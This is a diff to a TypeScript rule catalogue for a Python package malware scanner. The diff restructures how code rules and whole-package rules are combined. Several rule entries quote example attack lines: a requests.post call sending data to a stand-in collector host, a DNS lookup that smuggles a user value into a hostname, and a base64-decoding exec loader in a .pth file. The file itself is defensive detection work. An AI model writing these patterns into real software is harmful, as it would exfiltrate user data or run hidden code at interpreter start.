@@ -14,7 +14,8 @@ export interface RuleDoc {
   falsePositives: string;
 }
 
-export const RULE_DOCS: RuleDoc[] = [
+/** Rules about code, reported per file. */
+const CODE_RULE_DOCS: RuleDoc[] = [
   // egress
   { id: 'egress-network-call', name: 'Outbound network call', family: 'egress', severity: 'info', catches: 'A call to a network API from the catalogue (requests, httpx, aiohttp, urllib, http.client, urllib3, socket, ftplib, smtplib, paramiko, grpc, websockets, boto3, ...), resolved through aliases, from-imports, star imports, __import__, importlib, getattr and session objects. The destination is folded from constants when possible. Info for a call a user makes to an unknown destination; low with a hard-coded host; medium for webhook, paste, tunnel, IP-literal or throwaway-TLD hosts; raised one level for import-time code and two for install or startup code.', example: 'requests.post("https://collector.example/v1", json=data)', falsePositives: 'HTTP clients and SDKs call the network by design; at call time these stay info or low.' },
   { id: 'egress-dns-lookup', name: 'DNS lookup', family: 'egress', severity: 'info', catches: 'Name resolution (socket.gethostbyname, getaddrinfo, dns.resolver) that can carry data in the queried name (DNS exfiltration).', example: 'socket.gethostbyname(f"{user}.x.example")', falsePositives: 'Resolving a host the user configured.' },
@@ -57,23 +58,8 @@ export const RULE_DOCS: RuleDoc[] = [
   { id: 'pth-executes-code', name: '.pth file runs code', family: 'install-hook', severity: 'low', catches: 'A .pth file with lines starting with "import", which site.py executes at every interpreter start. High when that code does anything beyond importing (network, exec, decoding), medium when the file is large.', example: 'import base64;exec(base64.b64decode("..."))', falsePositives: 'setuptools\' distutils-precedence.pth and editable-install hooks (reported low).' },
 ];
 
-/** Rules emitted by the commands across several distributions (check). */
-RULE_DOCS.push({
-  id: 'wheel-sdist-mismatch',
-  name: 'Wheel code missing from the sdist',
-  family: 'package',
-  severity: 'high',
-  catches: 'With check --all-files: a Python file that a wheel ships but the same release\'s sdist lacks (high), or holds with other content (medium). Code added only to the built artifact is what reviewers of the source never see (the 2026 litellm compromise).',
-  example: 'litething-1.0.0-py3-none-any.whl has litething/_boot.py; litething-1.0.0.tar.gz does not',
-  falsePositives: 'Files generated at build time (_version.py, compiled grammars).',
-});
-
-/** Rules about a target as a whole: archive problems, package checks, metadata heuristics, known malware. */
-RULE_DOCS.push(...TARGET_RULE_DOCS);
-
-export function ruleDoc(id: string): RuleDoc | undefined {
-  return RULE_DOCS.find((rule) => rule.id === id);
-}
+/** Every rule: those about code, then those about a target as a whole (archives, packages, metadata, known malware). */
+export const RULE_DOCS: RuleDoc[] = [...CODE_RULE_DOCS, ...TARGET_RULE_DOCS];
 
 /** The rules as presenters need them (SARIF driver rules, HTML legend). */
 export function allRules(): RuleInfo[] {
